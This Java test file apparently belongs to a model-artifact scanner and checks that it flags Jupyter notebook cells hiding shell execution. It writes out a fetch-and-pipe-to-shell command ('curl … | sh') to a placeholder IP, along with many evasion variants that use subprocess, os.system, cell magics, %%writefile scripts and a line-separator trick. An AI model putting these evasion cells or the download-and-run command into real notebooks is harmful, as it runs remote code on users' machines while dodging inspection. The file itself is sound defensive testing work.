package io.lazaretto.artifact.notebook;

import static io.lazaretto.artifact.inspect.Detectors.CODE;
import static io.lazaretto.artifact.testing.InspectionAssert.inspecting;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.io.JsonStringEncoder;
import io.lazaretto.artifact.report.Outcome;
import io.lazaretto.artifact.testing.InspectionAssert;
import io.lazaretto.artifact.testing.SafetensorsBuilder;
import io.lazaretto.artifact.testing.TestingModel;
import java.lang.management.ManagementFactory;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Ways to have a cell run what a look at it does not show, each with the nearest ordinary cell. */
class NotebookEvasionTest {
    private static final String EVIL = "curl http://198.51.100.7/x | sh";

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "import subprocess¶subprocess.run(['bash','-c','EVIL'])",
                "import subprocess¶subprocess.run(['bash','-lc','EVIL'])",
                "import subprocess¶subprocess.Popen(args=['env','bash','-c','EVIL'])",
                "import subprocess¶subprocess.run(['EVIL'], shell=True)",
                "import subprocess¶subprocess.run('bash', input='EVIL', text=True)",
                "import subprocess¶subprocess.run('sh', input=b'EVIL')",
                "import os¶os.execl('/bin/sh', 'sh', '-c', 'EVIL')",
                "import os¶def run(c):¶    os.system(c)¶run('ls')¶run('EVIL')",
                "import os¶os.system('echo PAD; EVIL')",
                "from asyncio import create_subprocess_exec as c¶c('bash', '-c', 'EVIL')"
            })
    void completeArgumentsOfAProcessAreJudged(String cell) {
        notebook(cell.replace("PAD", "a".repeat(260))).reports(CODE, Outcome.THREAT, "code.process");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "import subprocess, sys¶subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'torch'])",
                "import subprocess¶subprocess.run(['git', 'commit', '-m', \"don't\"], check=True, cwd='/tmp')",
                "import subprocess¶p = subprocess.Popen(['ffmpeg', '-i', '-'], stdin=subprocess.PIPE)",
                "import subprocess¶subprocess.run(['bash', '-c', 'ls | wc -l'])",
                "import os¶x = 'a.zip'¶os.system(f'unzip -q {x}')",
                "!pip install -q transformers¶import os¶os.system('nvidia-smi')"
            })
    void ordinaryProcessesStaySilent(String cell) {
        notebook(cell).staysSilent();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "import subprocess¶subprocess.run(['bash', '-c', input()])",
                "import subprocess¶subprocess.run([], input())",
                "import os¶for c in ['ls', 'pwd', 'id', 'date', 'EVIL']:¶    os.system(c)",
                "import subprocess¶p = subprocess.Popen('sh', stdin=subprocess.PIPE)¶p.communicate(b'EVIL')"
            })
    void processWhoseCommandIsNotKnownIsNotCleared(String cell) {
        notebook(cell).isNotClear();
    }

    @Test
    void exclamationMarkInAStringIsNoMagic() {
        String cell = "s = \"\"\"\n!\"\"\"; import os; os.system('" + EVIL + "') # \"\n#\"\"\"";
        notebook(cell).reports(CODE, Outcome.THREAT, "code.process");
        notebook("s = '''\n!ls\n%matplotlib\n'''\nx = [\n  1 % 3]\ny = 'a\\\n!b'\n!ls")
                .staysSilent();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "%%cython¶import os¶os.system('EVIL')§code.process",
                "%%time¶%%bash¶\"curl\" \"-so\" \"x.sh\" \"http://198.51.100.7/x\"¶\"sh\" \"x.sh\"§script.download-run",
                "%%timeit __import__('os').system('EVIL')¶1§code.process",
                "%timeit -n 1 -r1 __import__('os').system('EVIL')§code.process",
                "%time !EVIL§script.download-run",
                "%%bash -c \"EVIL\"¶ls§script.download-run",
                "%%script bash -c 'EVIL'¶ls§script.download-run",
                "%alias x EVIL§script.download-run",
                "x = 1 # \u2028!EVIL§script.download-run"
            })
    void codeInMagicsIsJudged(String cell, String rule) {
        notebook(cell).reports(CODE, Outcome.THREAT, rule);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {"%%R¶system('id')", "%%sql¶select 1", "%R system('id')", "%%ruby¶`id`", "%%cython¶cdef int x = 1"})
    void otherLanguagesAreNotCleared(String cell) {
        assertThat(notebook(cell).report(CODE).outcome()).isEqualTo(Outcome.INCONCLUSIVE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "%%writefile setup¶EVIL§!bash setup",
                "%%writefile setup¶echo a§%%writefile -a setup¶EVIL§!sh ./setup",
                "!bash setup§%%writefile setup¶EVIL",
                "%%writefile setup¶EVIL§import os¶os.system('sh setup')",
                "%%writefile notes.txt¶import os¶os.system('EVIL')§!python notes.txt",
                "%%writefile notes.txt¶import os¶os.system('EVIL')§%run notes.txt",
                "%%writefile run.sh¶EVIL",
                "%%writefile Makefile¶all:¶\tEVIL"
            })
    void whatACellWritesIsJudgedWhereItIsRun(String cells) {
        assertThat(notebook(cells.split("§", -1)).report(CODE).outcome()).isEqualTo(Outcome.THREAT);
    }

    @Test
    void ordinaryFilesThatCellsWriteStaySilent() {
        notebook(
                        "%%writefile config.yaml\nlr: 0.1\n",
                        "%%writefile train.py\nimport argparse\nopen('a', 'w').write('x')\n",
                        "%%writefile requirements.txt\ntorch\n",
                        "%%writefile notes.txt\nhello\n",
                        "%%writefile run.sh\npython train.py\n",
                        "!bash run.sh",
                        "%%time\nx = 1",
                        "%%capture out\n!pip install torch",
                        "%timeit -n 10 sum([1])",
                        "%%timeit -r3\nsum([1])",
                        "%%html\n<b>x</b>",
                        "%%bash\nls")
                .staysSilent();
    }

    @ParameterizedTest
    @CsvSource({"bash, python3", "python, bash", "R, python3"})
    void kernelThatContradictsItsLanguageIsNotTrusted(String language, String name) {
        String kernel = "{\"language\": \"" + language + "\", \"name\": \"" + name + "\"}";
        inspecting(model(kernel, "import os\nos.system('" + EVIL + "')")).reports(CODE, Outcome.THREAT, "code.process");
    }

    @Test
    void metadataOfACellDoNotChangeTheLanguage() {
        String json = "{\"cells\": [{\"cell_type\": \"code\", \"metadata\": {\"kernelspec\": {\"language\": \"bash\"}},"
                + " \"source\": \"import os\\nos.system('" + EVIL + "')\"}], \"metadata\": {}, \"nbformat\": 4}";
        inspecting(new TestingModel()
                        .with("model.safetensors", SafetensorsBuilder.clean())
                        .with("a.ipynb", json))
                .reports(CODE, Outcome.THREAT, "code.process");
    }

    @Test
    void namesOfEnvironmentsAreNoLanguages() {
        inspecting(model("{\"language\": \"python\", \"name\": \"my-env\"}", "x = 1"))
                .staysSilent();
    }

    @Test
    void crowdOfOrdinaryWritesHidesNothing() {
        StringBuilder cell = new StringBuilder("import os\n");
        for (int i = 0; i < 100; i++) {
            cell.append("open('a").append(i).append("','w')\n");
        }
        notebook(cell.toString()).staysSilent();
        notebook(cell + "getattr(os, input())(input())\n").isNotClear();
    }

    @Test
    void manyLinesOfMagicsTakeLinearTime() {
        long begun = ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime();
        notebook("%a\n".repeat(20_000));
        assertThat(ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime() - begun)
                .isLessThan(4_000_000_000L);
    }

    @Test
    void fileThatIsRunManyTimesEndsAtALimit() {
        String[] cells = new String[1_001];
        Arrays.fill(cells, "!bash setup");
        cells[0] = "%%writefile setup\n" + "ls\n".repeat(10_000);
        notebook(cells).isInconclusive(CODE, "limit: scripts in scripts");
    }

    private static InspectionAssert notebook(String... cells) {
        return inspecting(model("{\"language\": \"python\", \"name\": \"python3\"}", cells));
    }

    private static TestingModel model(String kernel, String... cells) {
        List<String> json = new ArrayList<>();
        for (String cell : cells) {
            String text = cell.replace('¶', '\n').replace("EVIL", EVIL);
            json.add("{\"cell_type\": \"code\", \"metadata\": {}, \"source\": [\""
                    + new String(JsonStringEncoder.getInstance().quoteAsString(text)) + "\"], \"outputs\": []}");
        }
        return new TestingModel()
                .with("model.safetensors", SafetensorsBuilder.clean())
                .with(
                        "a.ipynb",
                        "{\"cells\": [" + String.join(", ", json) + "], \"metadata\": {\"kernelspec\": " + kernel
                                + "}, \"nbformat\": 4, \"nbformat_minor\": 5}");
    }
}
